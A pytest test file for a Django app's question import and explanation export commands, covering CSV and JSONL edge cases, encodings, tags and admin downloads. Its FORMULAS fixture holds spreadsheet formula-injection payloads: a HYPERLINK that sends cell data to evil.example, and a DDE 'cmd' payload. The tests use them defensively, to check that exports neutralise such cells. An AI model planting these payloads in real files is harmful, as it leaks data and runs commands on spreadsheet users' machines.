"""Questions in, explanations out: importquestions and exportexplanations, and the admin's
CSV download; from a CSV of questions to a CSV of explanations in three commands."""

from __future__ import annotations

import csv
import io
import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from studyqueue.models import ExplanationRevision, StudyQuestion, StudyQuestionJob

pytestmark = pytest.mark.django_db(transaction=True)


def run(*args: str) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command(*args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def jsonl(tmp_path, *records) -> str:  # type: ignore[no-untyped-def]
    path = tmp_path / "questions.jsonl"
    path.write_text("\n".join(r if isinstance(r, str) else json.dumps(r) for r in records))
    return str(path)


def test_jsonl_import_creates_then_a_reimport_updates_instead_of_duplicating(tmp_path):
    first = jsonl(
        tmp_path,
        {"text": "What is 2 + 2?", "choices": ["3", "4"], "answer": "4", "external_id": "q1"},
        {"text": "Capital of France?", "external_id": "q2"},
        {"text": "No id here"},
    )
    out, _ = run("importquestions", first)
    assert out.strip() == "Imported 3 row(s): 3 created, 0 updated, 0 unchanged."
    again = jsonl(
        tmp_path,
        {"text": "What is 2 + 2?", "choices": ["3", "4"], "answer": "4", "external_id": "q1"},
        {"text": "Capital of France?", "answer": "Paris", "external_id": "q2"},
    )
    out, _ = run("importquestions", again, "--enqueue")
    assert out.strip() == (
        "Imported 2 row(s): 0 created, 1 updated, 1 unchanged; queued 1 explanation job(s)."
    )
    assert StudyQuestion.objects.count() == 3
    assert StudyQuestion.objects.get(external_id="q2").answer == "Paris"
    assert list(StudyQuestionJob.objects.values_list("study_question__external_id", flat=True)) == [
        "q2"
    ]


def test_csv_import_reads_choices_as_pipes_or_json(tmp_path):
    path = tmp_path / "questions.csv"
    path.write_text(
        "external_id,text,choices,answer\n"
        'c1,"Pick one","Paris | Rome | Berlin",Paris\n'
        'c2,"Pick again","[""a, b"", ""c""]",c\n'
    )
    out, _ = run("importquestions", str(path))
    assert out.startswith("Imported 2 row(s): 2 created")
    assert StudyQuestion.objects.get(external_id="c1").choices == ["Paris", "Rome", "Berlin"]
    assert StudyQuestion.objects.get(external_id="c2").choices == ["a, b", "c"]


def test_an_unknown_csv_column_is_reported_once_for_the_header(tmp_path):
    path = tmp_path / "questions.csv"
    path.write_text(
        "external_id,text,colour,answer\n"
        + "".join(f"c{n},Question {n}?,red,A\n" for n in range(5))
    )
    out, err = run("importquestions", str(path))
    assert err.count("colour") == 1, err
    assert "line 1: unknown column(s) colour in the CSV header" in err
    assert out.startswith("Imported 5 row(s): 5 created")
    assert StudyQuestion.objects.get(external_id="c3").answer == "A"


def test_a_file_with_bad_rows_imports_nothing_and_names_each_bad_row(tmp_path):
    path = jsonl(
        tmp_path,
        {"text": "fine", "external_id": "ok"},
        {"text": ""},
        "{not json",
        {"text": "x", "choices": "Paris"},
        {"text": "x", "choices": ["a", 3]},
        {"text": "x", "colour": "red"},
        {"text": "again", "external_id": "ok"},
        [1, 2],
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    assert message.startswith("7 invalid row(s); nothing imported")
    for expected in (
        "line 2: 'text' is missing or empty",
        "line 3: not JSON",
        "line 4: 'choices': Choices must be a list of strings, not str.",
        "line 5: 'choices': Choice 2 must be a string, not int.",
        "line 6: unknown field(s): colour",
        "line 7: external_id 'ok' also at line 1",
        "line 8: a record must be an object",
    ):
        assert expected in message, expected
    assert not StudyQuestion.objects.exists()
    out, err = run("importquestions", path, "--skip-invalid")
    assert out.startswith("Imported 1 row(s): 1 created")
    assert "skipped 7 invalid row(s)" in err and "line 2:" in err


@pytest.mark.parametrize(
    "args,message",
    [
        (["questions.txt"], "cannot tell the format"),
        (["missing.jsonl"], "cannot read missing.jsonl"),
        (["x.jsonl", "--format", "xml"], "invalid choice: 'xml'"),
    ],
)
def test_import_rejects_bad_input(args, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "questions.txt").write_text("text\nq\n")
    with pytest.raises(CommandError, match=message):
        run("importquestions", *args)


def _explained(**fields) -> StudyQuestion:  # type: ignore[no-untyped-def]
    """A question whose current revision holds its explanation (as the worker leaves it)."""
    from studyqueue.explanations import revisions
    from tests.factories import ExplanationRevisionFactory

    version = fields.pop("explanation_prompt_version", "")
    text = fields.pop("explanation", "Because.")
    question = StudyQuestion.objects.create(**{"text": "Q?", **fields})
    revision = ExplanationRevisionFactory(question=question, text=text, prompt_version=version)
    assert revisions.make_current(revision)
    question.refresh_from_db()
    return question


def test_exports_carry_the_replys_measurements_under_their_names(tmp_path):
    """prompt, cached and completion tokens, time to first token, decode rate."""
    measured = _explained(text="Measured?")
    ExplanationRevision.objects.filter(pk=measured.current_revision_id).update(
        prompt_tokens=300, cached_tokens=280, completion_tokens=40, first_token_ms=120,
        tokens_per_second=31.5,
    )  # fmt: skip
    unknown = _explained(text="Unknown?")
    ExplanationRevision.objects.filter(pk=unknown.current_revision_id).update(
        prompt_tokens=None, cached_tokens=None, completion_tokens=None, first_token_ms=None,
        tokens_per_second=None,
    )  # fmt: skip
    names = ("prompt_tokens", "cached_tokens", "completion_tokens", "ttft_ms", "tokens_per_second")
    out, _ = run("exportexplanations")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [tuple(r[n] for n in names) for r in rows] == [
        (300, 280, 40, 120, 31.5),
        (None, None, None, None, None),
    ]
    target = tmp_path / "out.csv"
    run("exportexplanations", "--format", "csv", "--output", str(target))
    table = list(csv.DictReader(target.open(encoding="utf-8-sig")))
    assert [tuple(r[n] for n in names) for r in table] == [
        ("300", "280", "40", "120", "31.5"),
        ("", "", "", "", ""),
    ]


def test_export_streams_explained_questions_as_jsonl_and_csv(tmp_path):
    from studyqueue.explanations.prompts import current_version

    version = current_version().hash
    current = _explained(
        text="Now?", external_id="n", explanation_prompt_version=version, choices=["a", "b"]
    )
    old = _explained(text="Old?", explanation_prompt_version="0123456789ab")
    StudyQuestion.objects.create(text="Never explained")
    out, err = run("exportexplanations")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [r["id"] for r in rows] == [current.pk, old.pk]
    assert rows[0]["external_id"] == "n" and rows[0]["prompt_version"] == version
    revision = current.current_revision
    assert (rows[0]["model"], rows[0]["explained_at"]) == (
        revision.model,
        revision.created_at.isoformat(),
    )
    assert err.strip() == "exported 2 question(s)"
    out, _ = run("exportexplanations", "--outdated")
    assert [json.loads(line)["id"] for line in out.splitlines()] == [old.pk]
    target = tmp_path / "out.csv"
    _, err = run("exportexplanations", "--format", "csv", "--output", str(target))
    table = list(csv.DictReader(target.open(encoding="utf-8-sig")))
    assert [row["text"] for row in table] == ["Now?", "Old?"]
    assert json.loads(table[0]["choices"]) == ["a", "b"]
    out, _ = run("exportexplanations", "--since", "2999-01-01")
    assert out == ""
    with pytest.raises(CommandError, match="invalid date value"):
        run("exportexplanations", "--since", "yesterday")


def test_a_csv_export_starts_with_a_bom_and_imports_again(tmp_path):
    """Excel on Korean Windows reads a CSV without the UTF-8 byte-order mark as CP949; the
    import skips the mark of a file Excel saved."""
    question = _explained(
        text="대한민국의 수도는?", choices=["서울", "부산"], answer="서울", external_id="k1"
    )
    target = tmp_path / "out.csv"
    run("exportexplanations", "--format", "csv", "--output", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,")
    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))
    assert (row["id"], row["text"]) == (str(question.pk), "대한민국의 수도는?")
    out, _ = run("exportexplanations", "--format", "csv")  # standard output too
    assert out.startswith("\ufeffid,")
    bare = tmp_path / "bare.csv"
    run("exportexplanations", "--format", "csv", "--no-bom", "--output", str(bare))
    assert bare.read_bytes() == raw.removeprefix(b"\xef\xbb\xbf")
    out, _ = run("exportexplanations", "--no-bom")  # JSON Lines never carries one
    assert out.startswith("{")
    # A question file as Excel saves "CSV UTF-8": the mark first, CRLF line ends.
    questions = tmp_path / "questions.csv"
    questions.write_bytes(
        "external_id,text,choices,answer\r\nk1,한국의 수도는?,서울 | 부산,서울\r\n".encode(
            "utf-8-sig"
        )
    )
    out, _ = run("importquestions", str(questions))
    assert out.strip() == "Imported 1 row(s): 0 created, 1 updated, 0 unchanged."
    question.refresh_from_db()
    assert (question.text, question.choices) == ("한국의 수도는?", ["서울", "부산"])


def test_the_admin_downloads_the_selection_as_csv(admin_client):
    chosen = _explained(text="Chosen?")
    _explained(text="Other?")
    response = admin_client.post(
        reverse("admin:studyqueue_studyquestion_changelist"),
        {"action": "download_csv", "_selected_action": [chosen.pk]},
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # a byte-order mark: Excel reads it as UTF-8
    assert [row["text"] for row in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))] == [
        "Chosen?"
    ]


def test_from_a_csv_of_questions_to_a_csv_of_explanations_in_three_commands(tmp_path, llm_server):
    questions = tmp_path / "questions.csv"
    questions.write_text("external_id,text,choices,answer\nq1,What is 2 + 2?,3 | 4,4\n")
    run("importquestions", str(questions), "--enqueue")
    reply = "Two and two make four: 3 is one short.\nAnswer: 2"
    # The key audit and the check agree with the key.
    llm_server.configure(answer=reply, audit_answer="Answer: 2", verify_answer="Answer: 2")
    run("runconsumer", "--drain")
    explanations = tmp_path / "explanations.csv"
    run("exportexplanations", "--format", "csv", "--output", str(explanations))
    (row,) = csv.DictReader(explanations.open(encoding="utf-8-sig"))
    assert (row["external_id"], row["explanation"]) == ("q1", reply)
    assert (row["stated_answer"], row["flags"]) == ("2", "[]"), "choice 2 is the key, 4"


def test_exports_carry_the_stated_answer_beside_the_flags(tmp_path):
    """what the explanation says the answer is, and whether it agrees (flags)."""
    agreeing = _explained(text="Capital?", answer="Seoul")
    differing = _explained(text="Port?", answer="Busan")
    ExplanationRevision.objects.filter(pk=agreeing.current_revision_id).update(stated_answer="2")
    ExplanationRevision.objects.filter(pk=differing.current_revision_id).update(
        stated_answer="=Seoul", flags=["answer_mismatch"]
    )
    StudyQuestion.objects.filter(pk=differing.pk).update(explanation_flags=["answer_mismatch"])
    StudyQuestion.objects.create(text="Raw?", explanation="Written by raw SQL")  # no revision
    out, _ = run("exportexplanations")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [(r["stated_answer"], r["flags"]) for r in rows] == [
        ("2", []),
        ("=Seoul", ["answer_mismatch"]),
        ("", []),
    ]
    target = tmp_path / "out.csv"
    run("exportexplanations", "--format", "csv", "--output", str(target))
    table = list(csv.DictReader(target.open(encoding="utf-8-sig")))
    assert [(r["stated_answer"], r["flags"]) for r in table] == [
        ("2", "[]"),
        ("'=Seoul", '["answer_mismatch"]'),  # a spreadsheet would run it: neutralised
        ("", "[]"),
    ]


# Hostile files: a stray quote, huge fields, deep nesting, odd Unicode, control
# characters, and exports a spreadsheet would run or a closed pipe would break.


def csv_file(tmp_path, text: str | bytes, name: str = "questions.csv") -> str:  # type: ignore[no-untyped-def]
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_bytes(text.encode("utf-8", "surrogatepass"))
    return str(path)


HEADER = "external_id,text,choices,answer\n"


@pytest.mark.parametrize(
    "rows,reason",
    [
        # closed by a later quote that is followed by a comma: valid CSV, 2 rows from 4
        (
            'q2,"Capital of France?,Paris | Rome,Paris\n'
            "q3,Capital of Italy?,Paris | Rome,Rome\n"
            'q4,Is it 12",12 | 30,12\n',
            "runs on to line 5 over lines that look like rows",
        ),
        # closed by a later quote that text follows
        (
            'q2,"Capital of France?,Paris | Rome,Paris\n'
            "q3,Capital of Italy?,Paris | Rome,Rome\n"
            'q4,How long is a 12" ruler?,12 | 30,12\n',
            "breaks on line 5",
        ),
        # never closed
        (
            'q2,"Capital of France?,Paris | Rome,Paris\n'
            "q3,Capital of Italy?,Paris | Rome,Rome\n"
            "q4,Last,a | b,a\n",
            "never closed (the file ends on line 5)",
        ),
        # on the last field, with CRLF line ends
        (
            'q2,Capital of France?,Paris | Rome,"Paris\r\n'
            "q3,Capital of Italy?,Paris | Rome,Rome\r\n"
            'q4,Is it 12",12 | 30,12\r\n',
            "runs on to line 5",
        ),
    ],
)
def test_a_stray_quote_that_merges_rows_is_refused_with_its_line(tmp_path, rows, reason):
    path = csv_file(tmp_path, HEADER + "q1,What is 2 + 2?,3 | 4,4\n" + rows)
    for extra in ((), ("--skip-invalid",)):
        with pytest.raises(CommandError) as info:
            run("importquestions", path, *extra)
        message = str(info.value)
        assert message.startswith(f"{path}, line 3: a quoted field opened on this line"), message
        assert reason in message and "a stray quote?" in message
        assert message.endswith("nothing imported") and "\n" not in message
    assert not StudyQuestion.objects.exists()


def test_a_quote_problem_within_one_line_is_that_rows_error(tmp_path):
    path = csv_file(
        tmp_path,
        HEADER
        + 'q1,"What is "2+2"?",3 | 4,4\n'  # text after a closing quote
        + "q2,Fine,a | b,a\n"
        + 'q3,"Never closed,a | b,a\n',  # on the last line: it swallows nothing
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    assert "line 2: text after the closing quote of a field" in message
    assert "line 4: a quoted field is never closed" in message
    out, _ = run("importquestions", path, "--skip-invalid")
    assert out.startswith("Imported 1 row(s): 1 created")
    assert list(StudyQuestion.objects.values_list("external_id", flat=True)) == ["q2"]


def test_quoted_fields_over_several_lines_crlf_and_a_bom_still_import(tmp_path):
    path = csv_file(
        tmp_path,
        "\ufeff"
        + HEADER.replace("\n", "\r\n")
        + 'm1,"Read the poem:\r\nRoses are red, violets are blue, sugar is sweet\r\n'
        + 'Which colour is the rose?",red | blue,red\r\n'
        + 'm2,"He said ""hi"", twice, then left, at once",a | b,a\r\n'
        + ",,,\r\n"  # a spreadsheet's empty row
        + "\r\n"
        + "m3,Commas follow,,\r\n",
    )
    out, _ = run("importquestions", path)
    assert out.startswith("Imported 3 row(s): 3 created")
    poem = StudyQuestion.objects.get(external_id="m1")
    assert poem.text == (
        "Read the poem:\nRoses are red, violets are blue, sugar is sweet\nWhich colour is the rose?"
    )
    assert StudyQuestion.objects.get(external_id="m2").text == (
        'He said "hi", twice, then left, at once'
    )


def test_fields_over_128_kib_are_errors_of_their_rows_in_csv_and_jsonl(tmp_path):
    from studyqueue.explanations.transfer import FIELD_MAX, LINE_MAX

    big = "x" * (FIELD_MAX + 1)
    path = csv_file(
        tmp_path,
        "external_id,text\n"
        f"big,{big}\n"
        "after,fine\n"
        f'quoted,"{big}\n'
        'still inside, the quoted field"\n'
        "last,ok\n",
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    assert message.startswith("2 invalid row(s)")
    assert f"line 2: a field is longer than {FIELD_MAX} characters\n" in message
    assert f"line 4: a field is longer than {FIELD_MAX} characters (lines 4-5 skipped)" in message
    out, _ = run("importquestions", path, "--skip-invalid")
    assert out.startswith("Imported 2 row(s): 2 created")
    assert sorted(StudyQuestion.objects.values_list("external_id", flat=True)) == ["after", "last"]

    StudyQuestion.objects.all().delete()
    path = jsonl(
        tmp_path,
        {"text": big},
        {"text": "q", "answer": big},
        {"text": "q", "choices": ["a" * FIELD_MAX, "b"]},
        {"text": "x" * (LINE_MAX + 10)},  # a line too long to read whole
        {"text": "after the long line", "external_id": "ok"},
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    for expected in (
        f"line 1: 'text' is longer than {FIELD_MAX} characters",
        f"line 2: 'answer' is longer than {FIELD_MAX} characters",
        f"line 3: 'choices': 'choices' is longer than {FIELD_MAX} characters",
        f"line 4: the line is longer than {LINE_MAX} characters",
    ):
        assert expected in message, expected
    out, _ = run("importquestions", path, "--skip-invalid")
    assert StudyQuestion.objects.get().external_id == "ok"


def test_deep_nesting_lone_surrogates_and_bad_bytes_are_errors_of_their_rows(tmp_path):
    deep = "[" * 50_000 + "]" * 50_000
    path = jsonl(
        tmp_path,
        '{"text": "q", "choices": ' + deep + "}",
        '{"text": "lone \\ud800 surrogate"}',
        '{"text": "q", "choices": ["\\udfff"]}',
        '{"text": "q", "external_id": "\\udc00"}',
        '{"text": "once", "text": "twice"}',
        '{"text": "a pair is fine \\ud83d\\ude00", "external_id": "ok"}',
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    for expected in (
        "line 1: not JSON: nested too deeply",
        "line 2: 'text' is not valid Unicode",
        "line 3: 'choices': choice 1 is not valid Unicode",
        "line 4: 'external_id' is not valid Unicode",
        "line 5: field text given twice",
    ):
        assert expected in message, expected
    run("importquestions", path, "--skip-invalid")
    assert StudyQuestion.objects.get().text == "a pair is fine \U0001f600"

    StudyQuestion.objects.all().delete()
    path = csv_file(
        tmp_path,
        HEADER.encode()
        + b'n1,q,"' + deep.encode() + b'",\n'
        + b"b1,not UTF-8 \xff\xfe,,\n"
        + b'j1,q,"[""\\ud800""]",\n'
        + b"ok,fine,,\n",
    )  # fmt: skip
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    for expected in (
        "line 2: 'choices': nested too deeply",
        "line 3: 'text' is not valid Unicode (a lone surrogate, or bytes that are not UTF-8)",
        "line 4: 'choices': choice 1 is not valid Unicode",
    ):
        assert expected in message, expected
    run("importquestions", path, "--skip-invalid")
    assert StudyQuestion.objects.get().external_id == "ok"


def test_fields_are_cleaned_before_they_are_validated(tmp_path):
    path = jsonl(
        tmp_path,
        {"text": "\u0000"},
        {"text": "\u0000\u0001 \t\u007f\u0085"},
        {"text": "q", "choices": ["a", "\u0000"]},
        {"text": "q", "external_id": "x" * 199 + "\u0000\u0000"},
        {
            "text": "ok\u0000 \u0007bell\u009b\r\nnext",
            "choices": ["a\u0000b", "c"],
            "answer": "a\u0000b",
            "external_id": " x\u0000 ",
        },
        {"text": "blank id 1", "external_id": " "},
        {"text": "blank id 2", "external_id": " "},
        {"text": "blank id 3", "external_id": "\u0000\t"},
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    for expected in (
        "line 1: 'text' is missing or empty",
        "line 2: 'text' is missing or empty",
        "line 3: 'choices': Choice 2 is empty.",
    ):
        assert expected in message, expected
    assert "line 4" not in message  # 199 characters once cleaned
    out, _ = run("importquestions", path, "--skip-invalid")
    assert out.startswith("Imported 5 row(s): 5 created")
    cleaned = StudyQuestion.objects.get(external_id="x")
    assert (cleaned.text, cleaned.choices, cleaned.answer) == ("ok bell\nnext", ["ab", "c"], "ab")
    assert StudyQuestion.objects.filter(external_id=None).count() == 3
    assert not StudyQuestion.objects.filter(external_id="").exists()

    # the same in CSV, and a second import of blank ids creates, never collides
    path = csv_file(tmp_path, HEADER + ' ,again 1,,\n" ",again 2,,\n')
    run("importquestions", path)
    run("importquestions", path)
    assert StudyQuestion.objects.filter(external_id=None).count() == 7


FORMULAS = {
    "text": '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "answer": "@SUM(1,1)",
    "explanation": "=cmd|' /C calc'!A0",
    "external_id": "+1",
}


@pytest.mark.parametrize(
    "cell",
    ["-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "@x", "+x"],
)
def test_a_csv_cell_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
    from studyqueue.explanations.export import spreadsheet_safe

    assert spreadsheet_safe(cell) == "'" + cell
    for harmless in ("Because.", "1-2", "", "'=quoted", 42, None, "[]"):
        assert spreadsheet_safe(harmless) == harmless


def test_csv_exports_neutralise_formulas_and_jsonl_stays_exact(tmp_path, admin_client):
    question = _explained(**FORMULAS, choices=["=1", "-2"])
    target = tmp_path / "out.csv"
    run("exportexplanations", "--format", "csv", "--output", str(target))
    response = admin_client.post(
        reverse("admin:studyqueue_studyquestion_changelist"),
        {"action": "download_csv", "_selected_action": [question.pk]},
    )
    downloaded = b"".join(response.streaming_content).decode("utf-8-sig")
    for body in (target.read_text(encoding="utf-8-sig"), downloaded):
        (row,) = csv.DictReader(io.StringIO(body))
        for name, value in FORMULAS.items():
            assert row[name] == "'" + value, name
        assert json.loads(row["choices"]) == ["=1", "-2"]
        assert row["id"] == str(question.pk)
    out, _ = run("exportexplanations")
    exact = json.loads(out)
    assert {name: exact[name] for name in FORMULAS} == FORMULAS


@pytest.fixture
def many_explained() -> None:
    StudyQuestion.objects.bulk_create(
        StudyQuestion(text=f"Q{n}?", explanation="Because. " * 20) for n in range(2000)
    )  # about 500 KB of JSON Lines: more than a pipe holds


def export_process(child_env, python, stdout, *args: str):  # type: ignore[no-untyped-def]
    import subprocess

    return subprocess.Popen(
        [python, "manage.py", "exportexplanations", *args],
        cwd=str(Path(__file__).resolve().parents[2]),
        env=child_env,
        stdout=stdout,
        stderr=subprocess.PIPE,
        text=True,
    )


def test_export_into_head_ends_with_one_line_not_a_traceback(child_env, python, many_explained):
    import subprocess

    export = export_process(child_env, python, subprocess.PIPE)
    head = subprocess.run(
        ["head", "-1"], stdin=export.stdout, capture_output=True, text=True, timeout=120
    )
    export.stdout.close()  # only head holds the pipe now
    _, err = export.communicate(timeout=120)
    assert json.loads(head.stdout)["text"] == "Q0?"
    assert err.splitlines() == [
        "CommandError: cannot write to standard output: Broken pipe; the export stopped"
    ], err
    assert export.returncode == 1


def test_export_to_a_full_disk_ends_with_one_line(child_env, python, many_explained, tmp_path):
    with open("/dev/full", "w") as full:
        export = export_process(child_env, python, full, "--format", "csv")
        _, err = export.communicate(timeout=120)
    assert err.splitlines() == [
        "CommandError: cannot write to standard output: No space left on device; the export stopped"
    ], err
    assert export.returncode == 1
    with pytest.raises(CommandError, match=r"^cannot write /dev/full: No space left on device$"):
        run("exportexplanations", "--output", "/dev/full")


def test_a_utf16_file_is_refused_as_a_whole(tmp_path):
    path = csv_file(tmp_path, "text\nWhat is 2 + 2?\n".encode("utf-16"))
    with pytest.raises(CommandError, match=r"line 1: the file is UTF-16: save it as UTF-8"):
        run("importquestions", path, "--skip-invalid")


def test_a_korean_excel_csv_in_cp949_is_read_as_such_and_said(tmp_path):
    """Excel on Korean Windows saves "CSV" in CP949: read, not refused row by row."""
    rows = "text,choices,answer,external_id\r\n대한민국의 수도는?,서울 | 부산,서울,geo-1\r\n"
    path = csv_file(tmp_path, rows.encode("cp949"))
    out, err = run("importquestions", path)
    assert out.startswith("Imported 1 row(s): 1 created"), (out, err)
    assert err.splitlines()[0] == (
        f'{path} is not UTF-8: read as CP949 (Korean Windows, Excel\'s "CSV"); '
        'save it as "CSV UTF-8" to leave nothing to guess'
    )
    question = StudyQuestion.objects.get()
    assert (question.text, question.choices, question.answer) == (
        "대한민국의 수도는?",
        ["서울", "부산"],
        "서울",
    )
    out, err = run("importquestions", csv_file(tmp_path, rows.encode()))  # UTF-8: no word
    assert out.startswith("Imported 1 row(s): 0 created, 0 updated, 1 unchanged")
    assert "CP949" not in err


def test_standard_input_with_a_bom_crlf_and_bytes_that_are_not_utf8(child_env, python):
    import subprocess

    data = b"\xef\xbb\xbfexternal_id,text\r\ns1,caf\xe9\r\ns2,\xc3\xa9t\xc3\xa9\r\n"
    result = subprocess.run(
        [python, "manage.py", "importquestions", "-", "--format", "csv", "--skip-invalid"],
        cwd=str(Path(__file__).resolve().parents[2]),
        env=child_env,
        input=data,
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert b"line 2: 'text' is not valid Unicode" in result.stderr
    assert result.stdout.startswith(b"Imported 1 row(s): 1 created")
    assert StudyQuestion.objects.get().text == "\u00e9t\u00e9"


def test_a_key_that_names_no_choice_is_an_invalid_row(tmp_path):
    """ "Z" with choices a and b: every check would find the key nowhere, so the row is
    refused with its reason (its text, number or letter must name a choice)."""
    path = jsonl(
        tmp_path,
        {"text": "Pick one", "choices": ["a", "b"], "answer": "Z", "external_id": "z"},
        {"text": "Pick two", "choices": ["a", "b"], "answer": "B", "external_id": "letter"},
        {"text": "Pick 3", "choices": ["x", "y"], "answer": "y", "external_id": "text"},
        {"text": "Pick 4", "choices": ["x", "y"], "answer": "2", "external_id": "number"},
        {"text": "Open", "answer": "Z", "external_id": "open"},
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", path)
    message = str(info.value)
    assert message.startswith("1 invalid row(s); nothing imported"), message
    assert "line 1: 'answer' 'Z' names none of the choices" in message
    assert not StudyQuestion.objects.exists()
    out, err = run("importquestions", path, "--skip-invalid")
    assert out.startswith("Imported 4 row(s): 4 created"), out
    assert "skipped 1 invalid row(s)" in err
    assert sorted(StudyQuestion.objects.values_list("external_id", flat=True)) == [
        "letter",
        "number",
        "open",
        "text",
    ]


def test_a_json_number_as_the_key_is_a_choice_number_or_a_choice_text(tmp_path):
    """As in CSV, where every cell is text: 2 names the choice whose text is 2, else the
    second choice; a number that names none is the row's error, true is no key."""
    path = jsonl(
        tmp_path,
        {"text": "2 + 2?", "choices": ["3", "4"], "answer": 4, "external_id": "text"},
        {"text": "Capital?", "choices": ["Busan", "Seoul"], "answer": 2, "external_id": "n"},
        {"text": "Open", "answer": 7, "external_id": "open"},
    )
    out, _ = run("importquestions", path)
    assert out.startswith("Imported 3 row(s): 3 created"), out
    keys = dict(StudyQuestion.objects.values_list("external_id", "answer"))
    assert keys == {"text": "4", "n": "2", "open": "7"}
    bad = jsonl(
        tmp_path,
        {"text": "Pick", "choices": ["a", "b"], "answer": 3},
        {"text": "Yes?", "answer": True},
    )
    with pytest.raises(CommandError) as info:
        run("importquestions", bad)
    assert "line 1: 'answer' '3' names none of the choices" in str(info.value)
    assert "line 2: 'answer' must be text" in str(info.value)


def _tags(external_id: str) -> list[str]:
    return [tag.name for tag in StudyQuestion.objects.get(external_id=external_id).tags.all()]


def test_tags_come_from_json_lines_and_csv_and_a_reimport_of_tags_alone_keeps_the_explanation(
    tmp_path,
):
    run(
        "importquestions",
        jsonl(tmp_path, {"text": "삼각형?", "external_id": "g1", "tags": ["기하", "2024", "기하"]}),
    )
    assert _tags("g1") == ["2024", "기하"]
    question = StudyQuestion.objects.get(external_id="g1")
    from studyqueue.explanations import revisions
    from tests.factories import ExplanationRevisionFactory

    assert revisions.make_current(ExplanationRevisionFactory(question=question, text="세 변."))
    path = tmp_path / "questions.csv"
    path.write_text("external_id,text,tags\ng1,삼각형?, 도형 | 2024 \ng2,원?,\n")
    out, _ = run("importquestions", str(path))
    assert out.strip() == "Imported 2 row(s): 1 created, 1 updated, 0 unchanged."
    assert (_tags("g1"), _tags("g2")) == (["2024", "도형"], [])
    question.refresh_from_db()
    assert question.explanation == "세 변."  # a tag is no part of what was explained
    # A file that says nothing of tags leaves them; an empty list clears them.
    out, _ = run("importquestions", jsonl(tmp_path, {"text": "삼각형?", "external_id": "g1"}))
    assert "1 unchanged" in out and _tags("g1") == ["2024", "도형"]
    run("importquestions", jsonl(tmp_path, {"text": "삼각형?", "external_id": "g1", "tags": []}))
    assert _tags("g1") == []


@pytest.mark.parametrize(
    ("tags", "reason"),
    [
        ("기하", "'tags' must be a list of texts"),
        (["기하", 3], "'tags' must be a list of texts"),
        (["x" * 101], "'tags' is longer than 100 characters"),
    ],
)
def test_bad_tags_are_the_reason_of_their_row(tmp_path, tags, reason):
    with pytest.raises(CommandError, match=f"line 1: {reason}"):
        run("importquestions", jsonl(tmp_path, {"text": "Q?", "tags": tags}))
    assert not StudyQuestion.objects.exists()


def test_exports_carry_tags_and_the_admin_filters_and_searches_by_them(tmp_path, admin_client):
    tagged = _explained(text="삼각형?", external_id="g1")
    plain = _explained(text="원?", external_id="g2")
    run(
        "importquestions",
        jsonl(tmp_path, {"text": "삼각형?", "external_id": "g1", "tags": ["기하", "중2"]}),
    )
    out, _ = run("exportexplanations")
    assert [json.loads(line)["tags"] for line in out.splitlines()] == [["기하", "중2"], []]
    out, _ = run("exportexplanations", "--format", "csv")
    assert [row["tags"] for row in csv.DictReader(io.StringIO(out.lstrip("\ufeff")))] == [
        '["기하", "중2"]',
        "[]",
    ]
    url = reverse("admin:studyqueue_studyquestion_changelist")
    tag = tagged.tags.get(name="중2")
    page = admin_client.get(url, {"tags__id__exact": tag.pk}).content.decode()
    assert "기하, 중2" in page and f"/{tagged.pk}/change/" in page
    assert f"/{plain.pk}/change/" not in page
    page = admin_client.get(url, {"q": "기하"}).content.decode()
    assert f"/{tagged.pk}/change/" in page and f"/{plain.pk}/change/" not in page
